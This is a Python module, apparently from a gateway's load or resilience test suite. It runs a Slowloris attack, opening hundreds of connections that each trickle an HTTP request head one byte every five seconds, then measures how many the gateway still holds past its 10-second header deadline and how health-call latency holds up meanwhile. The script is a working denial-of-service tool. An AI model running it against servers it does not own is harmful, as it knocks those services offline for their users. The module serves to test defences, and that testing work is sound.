"""(c) Slowloris: connections that trickle an HTTP request head one byte every 5 s.

Counts how many the gateway still holds `check_at` seconds after they opened (default 11 s:
the 10 s header deadline + 1 s), and times `health` calls on a normal connection meanwhile."""

from __future__ import annotations

import asyncio
import json
import socket
import time
from typing import Any

from .rawws import RawWS, frame
from .target import Target

HEAD = b"GET /healthz HTTP/1.1\r\nHost: 127.0.0.1\r\nX-Padding: " + b"a" * 64 + b"\r\n\r\n"


async def attack_slowloris(t: Target, connections: int = 300, interval: float = 5.0, check_at: float = 11.0) -> dict[str, Any]:
    loop = asyncio.get_running_loop()
    closed_at: list[float] = []
    answers: list[bytes] = []
    stop = asyncio.Event()
    started = loop.time()

    async def trickle() -> None:
        try:
            reader, writer = await asyncio.open_connection(t.host, t.port, family=socket.AF_INET6 if ":" in t.host else socket.AF_INET)
        except OSError:
            closed_at.append(0.0)
            return

        async def watch() -> None:
            data = await reader.read(4096)  # an answer (408) or EOF: either ends it
            if data:
                answers.append(data.split(b"\r\n", 1)[0])
            closed_at.append(loop.time() - started)

        watcher = asyncio.create_task(watch())
        try:
            for i in range(len(HEAD)):
                if watcher.done() or stop.is_set():
                    break
                try:
                    writer.write(HEAD[i : i + 1])
                    await writer.drain()
                except OSError:
                    break
                try:
                    await asyncio.wait_for(asyncio.shield(watcher), interval)
                except asyncio.TimeoutError:
                    pass
            await asyncio.wait({watcher, asyncio.create_task(stop.wait())}, return_when=asyncio.FIRST_COMPLETED)
        finally:
            watcher.cancel()
            writer.close()

    async def rpc_latency() -> list[float]:
        lat: list[float] = []
        if t.token is None:
            return lat
        ws = await RawWS.open(t.host, t.port)
        try:
            if not (await ws.hello(t.token)).get("ok"):
                return lat
            n = 0
            while not stop.is_set():
                n += 1
                t0 = time.perf_counter()
                await ws.send(frame(json.dumps({"type": "req", "id": f"h{n}", "method": "health"}).encode()))
                while True:
                    msg = await ws.recv_json(10)
                    if msg.get("id") == f"h{n}":
                        break
                lat.append((time.perf_counter() - t0) * 1000)
                await asyncio.sleep(0.05)
        finally:
            ws.close()
        return lat

    tasks = [asyncio.create_task(trickle()) for _ in range(connections)]
    rpc = asyncio.create_task(rpc_latency())
    await asyncio.sleep(check_at)
    still_open = connections - len(closed_at)
    stop.set()
    await asyncio.gather(*tasks, return_exceptions=True)
    lat = sorted(await rpc) if not rpc.cancelled() else []
    p99 = lat[min(len(lat) - 1, int(len(lat) * 0.99))] if lat else None
    status = sorted({a.decode(errors="replace") for a in answers})
    return {
        "figure": f"{still_open} of {connections} still open {check_at:.0f} s after opening"
                  + (f"; health p99 {p99:.1f} ms meanwhile" if p99 is not None else ""),
        "still_open": still_open, "answers": status,
        "closed_after_s": [round(min(closed_at), 2), round(max(closed_at), 2)] if closed_at else None,
        "health_p99_ms": round(p99, 1) if p99 is not None else None,
    }
